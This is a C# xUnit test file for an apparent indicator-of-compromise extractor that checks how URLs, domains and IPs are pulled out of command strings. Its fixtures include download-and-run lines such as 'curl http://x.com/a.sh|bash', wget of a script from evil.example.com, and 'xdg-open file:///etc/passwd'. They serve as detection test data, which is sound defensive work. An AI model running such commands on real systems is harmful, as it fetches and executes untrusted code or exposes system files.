using System.Linq;
using B64Hunt.Iocs;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class UrlExtractionTests
    {
        [Theory]
        [InlineData("curl http://x.com/a.sh|bash", "http://x.com/a.sh")]
        [InlineData("curl -s 'http://x.com/y' | sh", "http://x.com/y")]
        [InlineData("wget \"http://x.com/y\" -O-", "http://x.com/y")]
        [InlineData("(curl http://x.com/y)", "http://x.com/y")]
        [InlineData("curl http://x.com/y;id", "http://x.com/y")]
        [InlineData("curl http://x.com/y&", "http://x.com/y")]
        [InlineData("curl http://x.com/y>/tmp/o", "http://x.com/y")]
        [InlineData("curl http://x.com/y</dev/null", "http://x.com/y")]
        [InlineData("echo `curl http://x.com/y`", "http://x.com/y")]
        [InlineData("see http://x.com/y.", "http://x.com/y")]
        [InlineData("see http://x.com/y, then", "http://x.com/y")]
        [InlineData("os.system(\"curl http://x.com/y\")", "http://x.com/y")]
        public void UrlsEndAtQuotesAndShellSyntax(string text, string url)
        {
            Assert.Equal(new[] { url }, Of(text, IocTypeNames.Url));
        }

        [Fact]
        public void QuotedUrlsKeepTheirQueryString()
        {
            Assert.Equal(new[] { "http://x.com/p?a=1&b=2" }, Of("curl 'http://x.com/p?a=1&b=2'", IocTypeNames.Url));
            Assert.Equal(new[] { "http://x.com/p?a=1" }, Of("curl http://x.com/p?a=1&b=2", IocTypeNames.Url));
        }

        [Fact]
        public void UrlHostsAreAlsoReportedAndComeAfterTheirUrl()
        {
            var found = Extract("wget https://Evil.Example.com:8443/x.sh && curl http://203.0.114.9/p && curl http://[2001:4860::8888]/q");
            Assert.Equal(new[]
            {
                "url:https://evil.example.com:8443/x.sh", "dns:evil.example.com",
                "url:http://203.0.114.9/p", "ipv4:203.0.114.9",
                "url:http://[2001:4860::8888]/q", "ipv6:2001:4860::8888",
            }, found.Select(i => i.ToString()).ToArray());
            Assert.Equal("https://Evil.Example.com:8443/x.sh", found[0].Value);
        }

        [Fact]
        public void UrlPathsAreNotLinuxPathsAndTheirNamesAreNotDomains()
        {
            string text = "curl https://www.virustotal.com/en/ip-address/90.156.201.27/information/ -o x";
            var found = Extract(text);
            Assert.Equal(new[] { "url", "dns" }, found.Select(i => i.Type).ToArray());
            Assert.Equal("https://www.virustotal.com/en/ip-address/90.156.201.27/information/", found[0].Normalized);
        }

        [Fact]
        public void UserInfoAndPortsAreParsed()
        {
            var url = Single("curl ftp://user:pw@files.evil.com:2121/a", IocTypeNames.Url, "ftp://user:pw@files.evil.com:2121/a");
            Assert.False(url.IsPrivate);
            Single("curl ftp://user:pw@files.evil.com:2121/a", IocTypeNames.Dns, "files.evil.com");
            Assert.Empty(Of("curl ftp://user:pw@files.evil.com:2121/a", IocTypeNames.Email));
        }

        [Theory]
        [InlineData("http://http://http://")]
        [InlineData("curl http://evil.com:99999/x")]
        [InlineData("curl http://evil.com:/x")]
        [InlineData("curl http://256.1.1.1/x")]
        [InlineData("curl http://a_b-.com/x")]
        [InlineData("curl gopher://evil.com/x")]
        [InlineData("curl xhttp://evil.com/x")]
        public void MalformedOrForeignUrlsAreNotReported(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.Url));
        }

        [Fact]
        public void AUrlStartingAfterARejectedOneIsStillFound()
        {
            Assert.Equal(new[] { "http://evil.com/a" }, Of("http://http://evil.com/a", IocTypeNames.Url));
        }

        [Fact]
        public void PrivateHostsMakePrivateUrls()
        {
            Assert.True(Single("curl http://10.1.2.3/x", IocTypeNames.Url, "http://10.1.2.3/x").IsPrivate);
            Assert.True(Single("curl http://intranet/x", IocTypeNames.Url, "http://intranet/x").IsPrivate);
            Assert.False(Single("curl http://8.8.8.8/x", IocTypeNames.Url, "http://8.8.8.8/x").IsPrivate);
        }

        [Fact]
        public void FileUrlsHaveNoHost()
        {
            var found = Extract("xdg-open file:///etc/passwd");
            Assert.Equal(new[] { "url:file:///etc/passwd" }, found.Select(i => i.ToString()).ToArray());
            Assert.True(found[0].IsPrivate);
        }
    }
}
